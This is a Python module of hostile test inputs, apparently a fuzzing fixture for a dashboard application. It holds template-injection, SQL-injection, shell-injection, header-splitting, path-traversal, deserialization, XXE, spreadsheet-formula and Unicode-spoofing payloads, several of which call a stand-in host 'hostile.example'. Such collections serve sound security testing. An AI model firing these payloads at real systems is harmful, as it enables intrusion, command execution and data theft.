"""The forms of strings that other programs act upon; `§` stands for the mark of each."""

TEMPLATE = (
    "{{7*7}}§", "{{ 7*'7' }}§", "{{config}}§", "{{config.items()}}§", "{{ g.user.password_hash }}§",
    "{{request.application.__globals__}}§", "{{self.__init__.__globals__}}§", "{{ [].__class__ }}§",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}§", "{{ url_for.__globals__.os }}§",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}§", "{% import os %}§",
    "{%raw%}§{%endraw%}", "{% include '/etc/passwd' %}§", "{% extends 'base.html' %}§",
    "{% block main %}§{% endblock %}", "{% for i in range(9) %}§{% endfor %}", "{# § #}", "{{§",
    "}}§", "{%§", "%}§", "{{{{§}}}}", "{{'§'|safe}}",
    "{% autoescape false %}<b id=§>{% endautoescape %}", "<%= 7*7 %>§", "<% §.x %>", "#{7*7}§",
    "*{7*7}§", "@(7*7)§", "[[${7*7}]]§", "{{constructor.constructor('pwned(`§`)')()}}",
    "{{$on.constructor('pwned(`§`)')()}}", "<div ng-app>{{§}}</div>", "<div v-html=\"'§'\">",
    "<div x-data x-init=pwned('§')>", "{{{§}}}", "{{&§}}", "{{>§}}", "$!{§}", "<#assign x='§'>${x}",
)  # fmt: skip

FORMAT = (
    "{0}§", "{}§", "{0.__class__}§", "{0.__class__.__init__.__globals__}§", "{user.password_hash}§",
    "{self}§", "{!r}§", "{:>9999999999}§", "{0[§]}", "{name!x}§", "%s§", "%n§", "%d§", "%(name)s§",
    "%x%x%x%x§", "%9999999999d§", "%%§", "%", "%zz§", "%c%c§", "$§", "${§}", "${7*7}§",
    "${jndi:ldap://hostile.example/§}", "${env:HOME}§", "${DBKS:§}", "${DBKS:WIRE_TOKEN}§",
    "${DBKS:${DBKS:§}}", "$(§)", "$§{x", "f'{§}'", "\\1\\g<0>§", "&§;", "&amp;§", "&#§;", "\\N{§}",
    "\\", "\\\\§", "\\u0000§", "\\x00§", "%00§", "%0d%0a§", "%2e%2e%2f§", "%u003c§",
)  # fmt: skip


def formulas() -> list[str]:
    """Return what a spreadsheet computes, behind each sign that begins a formula."""
    signs = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "＝",
        "＋",
        "－",
        "＠",
        '"=',
        "'=",
        ";=",
        ",=",
    )
    calls = [f"{sign}1+1+cmd|' /C §'!A0" for sign in signs]
    return [
        *calls,
        '=HYPERLINK("https://hostile.example/§","§")',
        '=WEBSERVICE("https://hostile.example/§")',
        '=IMPORTXML("https://hostile.example/§","//a")',
        '=DDE("cmd","/C §","x")',
        "@SUM(1+1)*§",
        "-2+3+§!A1",
        '"\r\n=1+1,§',
        "a,b\r\n=§,c",
    ]


SQL = (
    "' OR '1'='1' -- §", "\" OR 1=1 -- §", "'; DROP TABLE unit; -- §", "1; DELETE FROM user; -- §",
    "' UNION SELECT password_hash FROM user -- §", "') OR ('§'='§", "\\' OR 1=1 -- §", "admin'--§",
    "1' AND randomblob(1000000000) --§", "' || (SELECT secret FROM config_key) || '§", "§%", "§_",
    "%§%", "?1§", ":name§", "$1§", "@p§", "NULL§", "'§", "''§", "\"§\"", "`§`", "[§]", "/*§*/",
    "x'41§'", "§ GLOB '*'", "'; ATTACH DATABASE '/tmp/§' AS x; --",
    "'; PRAGMA writable_schema=1; -- §", "§' COLLATE NOCASE --",
)  # fmt: skip

SHELL = (
    "; touch /tmp/§", "| touch /tmp/§", "&& touch /tmp/§", "`touch /tmp/§`", "$(touch /tmp/§)",
    "> /tmp/§", "< /etc/passwd §", "--help §", "-rf §", "-- §", "~root/§", "* §", "? §", "!§", "!!",
    "^§^x", "\"; §; \"", "'; §; '", "\n touch /tmp/§", "() { :;}; touch /tmp/§", "%PATH%§",
    "^& calc §", "| powershell §", "& ping -n 9 §",
)  # fmt: skip

HEADER = (
    "§\r\nSet-Cookie: pwned=§", "§\nLocation: //hostile.example/§", "§\rX-§: 1", "§%0d%0aX-§: 1",
    "§\u560d\u560aX: 1", "§\r\n\r\n<script>pwned('§')</script>", "§\x0bX-§: 1", "§\x0cX: 1",
    "§\x85X: 1", "§\u2028X: 1", "§\u2029X: 1", "§\x1b[31mred\x1b[0m", "§\x1b]0;title\x07",
    "§\x08\x08\x08", "§\x7f", "§\x9b31m", '§"; filename=evil.html; x="',
    "§; filename*=UTF-8''evil.html", "§, second", "§;secure", "attachment; §",
    "§\n2026-01-01 admin logged in", "§\r\n.\r\nMAIL FROM:<x@hostile.example>",
    "§ \tfolded\r\n line",
)  # fmt: skip


def directions() -> list[str]:
    """Return every mark that turns the direction of what follows, closed and left open."""
    marks = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return [
        *(f"a{mark}§exe.txt" for mark in marks),
        "\u202egpj.§.exe",
        "\u2067\u2066§\u2069\u2069",
        "שלום § <b id=§>",
        "مرحبا § \u202b<b id=§>\u202c",
        "\u202e<img src=x onerror=pwned('§')>",
        "user\u202e nimda§",
    ]


def invisible() -> list[str]:
    """Return strings with what nobody sees: of no width, blank, or for no use in text."""
    marks = (
        "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u115f\u1160\u3164\uffa0\u2800\u00a0\u2003\u3000"
        "\u2061\u2062\u2063\u206a\u206f\ufff9\ufffa\ufffb\ufffc\ufe0f\U000e0001\U000e0041\U000e007f\u0085"
    )
    return [*(f"x{mark}§{mark}x" for mark in marks), "<\u200bimg src=x onerror=pwned('§')>"]


UNICODE = (
    "§" + "é" * 40, "§ Ünïcödé Straße", "§ 漢字かな交じり文", "§ 한국어 텍스트", "§ ไทย ก็",
    "§ हिन्दी क्षि", "§ 😀👩‍👩‍👧‍👦🏳️‍🌈", "§ \U0001f1e9\U0001f1ea\U0001f1eb\U0001f1f7",
    "§ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "§ 𐍈𒀀𓀀", "§ \U0010ffff", "§ \U0010fffe", "§ \ufffe", "§ \uffff", "§ \ufdd0",
    "§ \ue000", "§ \U000f0000", "§" + "\u0301" * 60, "§Z" + "\u0300\u0316\u0334" * 20, "§ ﷽﷽﷽",
    "§ ǅ ŉ ß ſ İ ı", "§ ℀℁ ⅷ ① ½", "§ ﬁﬂﬃ", "§ \u1e9e", "§ \ufffd", "§ ⁰¹²³", "§ ١٢٣", "§ 𝟙𝟚𝟛",
    "§ ｆｕｌｌ ｗｉｄｔｈ", "§ \u0e33\u0eb3", "§ \u0958", "§ \u2126 \u212a \u212b", "§ \U0001d15e",
    "§ \ufb2c", "§ q\u0307\u0323",
)  # fmt: skip

TWINS = (
    "§ caf\u00e9", "§ cafe\u0301", "§ \u212bngstr\u00f6m", "§ \u00c5ngstr\u00f6m",
    "§ A\u030angstro\u0308m", "§ admin", "§ аdmin", "§ ａdmin", "§ ADMIN", "§ admın", "§ admin ",
    " § admin", "§  admin", "§ admin\u00a0", "§ l1I|", "§ O0", "§ rn m", "§ paypal", "§ раураl",
    "§ \u1e69", "§ s\u0323\u0307", "§ s\u0307\u0323",
)  # fmt: skip


def paths() -> list[str]:
    """Return names that would lead elsewhere if anything took them for a file."""
    devices = ("CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "CLOCK$", "CONIN$")
    return [
        *(f"{device}.§" for device in devices), "../§", "../../../../etc/passwd§", "..\\..\\§",
        "/etc/passwd§", "/§", "C:\\§", "C:§", "\\\\?\\C:\\§", "\\\\.\\§", "//hostile/§",
        "file:///§", "§/../..", "....//§", "..%2f§", "..%252f§", "..%c0%af§", "%2e%2e/§", "./§",
        ".§", "§.", "§ .", "§::$DATA", "§:stream", "§.dbk/../x", "§.dbk%00.png", "~/§", "~§",
        "$HOME/§", "%TEMP%\\§", "/proc/self/environ§", "/dev/stdin§", "zip://§#x", "php://filter/§",
        "§\u2215..\u2215", "..\uff0f§", "§.html", "§.svg",
    ]  # fmt: skip


CODE = (
    "os:system§", "dashboard.web.auth:login§", "__import__('os').system('§')", "module:dashboard.§",
    "plugins/§/__init__.py", "https://hostile.example/§/plugin.zip",
    "git+https://hostile.example/§", "file:///tmp/§.py", "pkg://hostile/§",
    "!!python/object/apply:os.system ['§']", "cos\nsystem\n(S'§'\ntR.", "gASV§",
    "O:4:\"User\":0:{}§", "rO0AB§", "AC ED 00 05 §", '{"$type":"System.Object§"}',
    '{"__proto__":{"§":1}}', "__proto__§", "constructor.prototype.§", "eval('§')", "exec(§)",
    "lambda: §", "import os§", "require('child_process').exec('§')", "Function('pwned(`§`)')()",
)  # fmt: skip

OTHER_MARKUP = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;§</x>',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "//hostile.example/§">%e;]>',
    "<xi:include href='//hostile.example/§'/>", "<!--#exec cmd='§' -->", "<?php §(); ?>",
    "[url=javascript:pwned('§')]§[/url]", "[img]//hostile.example/§[/img]", "{color:red}§{color}",
    "\\input{/etc/passwd}§", "\\write18{§}", "$$\\href{javascript:pwned('§')}{§}$$",
    ".. raw:: html\n\n  <b id=§>", "'''§'''", "== § ==", "----\n§", "%PDF-1.7 §",
    "GIF89a/*§*/=pwned('§')//", "BEGIN:VCALENDAR\r\nSUMMARY:§\r\nEND:VCALENDAR", "From: x\r\n\r\n§",
    "---\n§: !!x\n", "[§]\nkey=1", "§: |\n  x",
)  # fmt: skip

ODD = (
    "§", "undefined§", "null§", "None§", "NaN§", "Infinity§", "-Infinity§", "true§", "false§", "0§",
    "-0§", "1e309§", "0x§", "1/0§", "[]§", "{}§", "[object Object]§", "(§)", "\"§", "'§'§", "§,",
    "§;", "§:", "§#", "#§", "?§=1&§=2", "&§=1", "§=", "=§", "/§/g", "§++", "--§", "\t§", "§\t", " ",
    "§ ", "§\n\n\n§", "_§_", "*§*", "~§~", "§…", "“§”", "«§»", "§™®©", "Robert§', (\"x\");",
    "ＳＥＬＥＣＴ §", "01/02/03 §", "2026-02-30§", "12:60§", "1,000.00§", "1.000,00§", "١٬٠٠٠§",
    "-1§", "+49 §", "§" * 4, "a" * 100 + "§", "\\0§", "§\x01\x02\x03", "Scunthorpe§",
)  # fmt: skip

IMPOSSIBLE = (
    "§\0", "\0§", "§\0<script>pwned('§')</script>", "<\0img src=x onerror=pwned('§')>", "§\ud800",
    "§\udfff", "\ud83d§", "§\udc00\ud800", "java\0script:pwned('§')", "§.dbk\0.png",
)  # fmt: skip
